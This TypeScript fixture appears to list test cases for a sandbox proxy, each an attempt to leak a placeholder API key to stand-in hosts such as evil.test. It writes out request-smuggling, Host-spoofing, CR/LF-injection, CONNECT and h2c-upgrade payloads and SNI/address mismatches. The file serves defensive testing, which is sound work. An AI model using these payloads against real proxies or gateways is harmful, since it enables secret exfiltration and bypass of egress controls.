/**
 * Lists attempts of a guest to get the value of a secret, or to have it sent elsewhere, as data. `secret-prober.ts`
 * makes them in the guest's namespace. PLACEHOLDER stands for the secret of api.test; its value must reach no other
 * server, and no answer to the guest may contain it.
 */
import { PLACES } from './secret-lab.ts';

export const PLACEHOLDER = `berth-secret-${'0123456789abcdef'.repeat(2)}`;

export interface SecretAttempt {
  readonly name: string;
  readonly address: string;
  readonly port: number;
  /** null: no TLS, or none. */
  readonly sni: string | null;
  readonly kind: 'plain' | 'http1' | 'http2';
  /** Of plain and http1: what is sent, part by part. */
  readonly send?: readonly string[];
  /** Of http2. */
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
  readonly trailers?: Readonly<Record<string, string>>;
  /** After the first answer, by TLS 1.2. */
  readonly renegotiate?: boolean;
}

const API = PLACES['api.test'];
const EVIL = '203.0.113.66';
const KEY = `X-Key: ${PLACEHOLDER}\r\n`;
const get = (host: string, target = '/') => `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n${KEY}\r\n`;

const tls = (name: string, ...send: string[]): SecretAttempt => ({
  ...{ name, send, address: API, port: 443, sni: 'api.test', kind: 'http1' },
});
const at = (sni: string | null, address: string, attempt: SecretAttempt, port = 443): SecretAttempt => ({
  ...attempt,
  ...{ sni, address, port },
});
const http2 = (
  name: string,
  headers: Record<string, string>,
  more: Partial<SecretAttempt> = {},
): SecretAttempt => ({
  ...{ name, address: API, port: 443, sni: 'api.test', kind: 'http2' },
  headers: { ':authority': 'api.test', 'x-key': PLACEHOLDER, ...headers },
  ...more,
});
const POST = 'POST / HTTP/1.1\r\nHost: api.test\r\n';

export const SECRET_ATTEMPTS: readonly SecretAttempt[] = [
  tls('another host', get('evil.test')),
  tls('a host below', get('x.api.test')),
  tls('a host that begins like it', get('api.test.evil.test')),
  tls('a host with a user', get('api.test@evil.test')),
  tls('another port in the host', get('api.test:8443')),
  tls('no host', `GET / HTTP/1.0\r\n${KEY}\r\n`),
  tls('an empty host', get('')),
  tls('an address as host', get(EVIL)),
  tls('two hosts', `GET / HTTP/1.1\r\nHost: api.test\r\nHost: evil.test\r\n${KEY}\r\n`),
  tls('two hosts, the other first', `GET / HTTP/1.1\r\nHost: evil.test\r\nHost: api.test\r\n${KEY}\r\n`),
  tls('a folded host', `GET / HTTP/1.1\r\nHost: api.test\r\n evil.test\r\n${KEY}\r\n`),
  tls('another host in the URL', get('api.test', 'https://evil.test/')),
  tls('another host than in the URL', get('evil.test', 'https://api.test/')),
  tls('another scheme in the URL', get('api.test', 'http://api.test/')),
  tls('another host in the second request', get('api.test', '/fine'), get('evil.test')),
  tls('another host behind the first request', get('api.test', '/fine') + get('evil.test')),
  tls('CONNECT', `CONNECT evil.test:443 HTTP/1.1\r\nHost: api.test\r\n${KEY}\r\n`, get('evil.test')),
  tls(
    'CONNECT to the host',
    `CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n${KEY}\r\n`,
    get('evil.test'),
  ),
  tls('TRACE', `TRACE / HTTP/1.1\r\nHost: api.test\r\n${KEY}\r\n`),
  tls('TRACE in another case', `trace / HTTP/1.1\r\nHost: api.test\r\n${KEY}\r\n`),
  tls('in the URL', `GET /?key=${PLACEHOLDER} HTTP/1.1\r\nHost: api.test\r\n\r\n`),
  tls('in the name of a field', `GET / HTTP/1.1\r\nHost: api.test\r\n${PLACEHOLDER}: 1\r\n\r\n`),
  tls('in the body', `${POST}Content-Length: 45\r\n\r\n${PLACEHOLDER}`),
  tls('in a chunk', `${POST}Transfer-Encoding: chunked\r\n\r\n2d\r\n${PLACEHOLDER}\r\n0\r\n\r\n`),
  tls(
    'in a chunk extension',
    `${POST}Transfer-Encoding: chunked\r\n\r\n1;a=${PLACEHOLDER}\r\nx\r\n0\r\n\r\n`,
  ),
  tls('in a trailer', `${POST}Transfer-Encoding: chunked\r\nTrailer: X-Key\r\n\r\n0\r\n${KEY}\r\n`),
  tls(
    'a request behind length and chunks',
    `${POST}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${get('evil.test')}`,
  ),
  tls(
    'a request behind a hidden coding',
    `${POST}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n${get('evil.test')}`,
  ),
  tls(
    'a request behind an unknown coding',
    `${POST}Transfer-Encoding: xchunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n${get('evil.test')}`,
  ),
  tls(
    'a request as the body of a length that Connection names',
    `GET / HTTP/1.1\r\nHost: api.test\r\nConnection: content-length\r\nContent-Length: ${get('evil.test').length}\r\n\r\n${get('evil.test')}`,
  ),
  tls(
    'Connection names the host',
    `GET / HTTP/1.1\r\nHost: api.test\r\nConnection: host\r\n${KEY}\r\n`,
    get('evil.test'),
  ),
  tls('bare line feeds', `GET / HTTP/1.1\nHost: evil.test\n${KEY.trim()}\n\n`),
  tls('a bare carriage return', `GET / HTTP/1.1\r\nHost: api.test\rHost: evil.test\r\n${KEY}\r\n`),
  tls('HTTP/2 without ALPN', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  tls(
    'an upgrade to HTTP/2',
    `GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n${KEY}\r\n`,
  ),
  tls(
    'a WebSocket to another host',
    `GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n${KEY}\r\n`,
  ),
  tls(
    'a request behind a handshake',
    `GET /ws HTTP/1.1\r\nHost: api.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n${get('evil.test')}`,
  ),
  {
    ...tls('another host after renegotiation', get('api.test', '/fine'), get('evil.test')),
    renegotiate: true,
  },
  at('evil.test', API, tls('the host below another name in TLS', get('api.test'))),
  at('other.test', API, tls('the host below another name, at its address', get('api.test'))),
  at(null, API, tls('the host without a name in TLS', get('api.test'))),
  at('x.api.test', API, tls('the host below a name below it in TLS', get('api.test'))),
  at('api.test', EVIL, tls('the name at another address', get('evil.test'))),
  at('api.test', EVIL, { ...tls('the name at another address, another host', get('other.test')) }),
  at('other.test', PLACES['other.test'], tls("another server's name and address", get('other.test'))),
  at('other.test', PLACES['other.test'], tls('the host at another server', get('api.test'))),
  at('expired.test', PLACES['expired.test'], tls('an expired certificate', get('expired.test'))),
  at('selfsigned.test', PLACES['selfsigned.test'], tls('a self-signed certificate', get('selfsigned.test'))),
  at('wrongname.test', PLACES['wrongname.test'], tls('a certificate of another name', get('wrongname.test'))),
  at('rebind.test', '10.0.0.5', tls('a name with a private address', get('rebind.test'))),
  at('rebind.test', API, tls('a name with a private address, at a public one', get('rebind.test'))),
  at('self.test', '198.51.100.1', tls('a name with the address of the host', get('self.test'))),
  at('api.test', API, tls('another port', get('api.test')), 8443),
  { ...at(null, API, tls('without TLS, port 443', get('api.test'))), kind: 'plain' },
  { ...at(null, API, tls('without TLS, port 80', get('api.test')), 80), kind: 'plain' },
  { ...at(null, EVIL, tls('without TLS, another server', get('api.test')), 80), kind: 'plain' },
  http2('HTTP/2: another authority', { ':authority': 'evil.test' }),
  http2('HTTP/2: another host than the authority', { host: 'evil.test' }),
  http2('HTTP/2: another port', { ':authority': 'api.test:8443' }),
  http2('HTTP/2: another scheme', { ':scheme': 'http' }),
  http2('HTTP/2: CONNECT', { ':method': 'CONNECT', ':authority': 'evil.test:443' }),
  http2('HTTP/2: TRACE', { ':method': 'TRACE' }),
  http2('HTTP/2: in the URL', { ':path': `/?${PLACEHOLDER}`, 'x-key': '1' }),
  http2('HTTP/2: a URL of another host as path', { ':path': 'https://evil.test/' }),
  http2('HTTP/2: in the body', { ':method': 'POST', 'x-key': '1' }, { body: PLACEHOLDER }),
  http2(
    'HTTP/2: in a trailer',
    { ':method': 'POST', 'x-key': '1' },
    { body: 'x', trailers: { 'x-key': PLACEHOLDER } },
  ),
];
